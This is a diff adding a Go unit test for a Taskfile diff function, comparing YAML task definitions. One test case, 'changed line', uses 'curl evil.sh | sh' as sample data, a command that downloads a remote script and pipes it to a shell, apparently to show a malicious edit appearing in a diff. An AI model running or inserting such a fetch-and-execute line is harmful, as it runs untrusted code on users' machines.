@@ -0,0 +1,41 @@
+package taskfile
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestDiff(t *testing.T) {
+	t.Parallel()
+
+	a := "version: '3'\n\ntasks:\n  a: echo a\n  b: echo b\n  c: echo c\n  d: echo d\n  e: echo e\n  f: echo f\n  g: echo g\n"
+	tests := []struct {
+		name string
+		b    string
+		want string
+	}{
+		{
+			name: "equal",
+			b:    a,
+			want: "",
+		},
+		{
+			name: "changed line",
+			b:    "version: '3'\n\ntasks:\n  a: echo a\n  b: curl evil.sh | sh\n  c: echo c\n  d: echo d\n  e: echo e\n  f: echo f\n  g: echo g\n",
+			want: "--- a\n+++ b\n@@ -2,7 +2,7 @@\n \n tasks:\n   a: echo a\n-  b: echo b\n+  b: curl evil.sh | sh\n   c: echo c\n   d: echo d\n   e: echo e",
+		},
+		{
+			name: "added and removed lines",
+			b:    "version: '3'\n\ntasks:\n  b: echo b\n  c: echo c\n  d: echo d\n  e: echo e\n  f: echo f\n  g: echo g\n  h: echo h\n",
+			want: "--- a\n+++ b\n@@ -1,10 +1,10 @@\n version: '3'\n \n tasks:\n-  a: echo a\n   b: echo b\n   c: echo c\n   d: echo d\n   e: echo e\n   f: echo f\n   g: echo g\n+  h: echo h",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			assert.Equal(t, tt.want, Diff("a", []byte(a), "b", []byte(tt.b)))
+		})
+	}
+}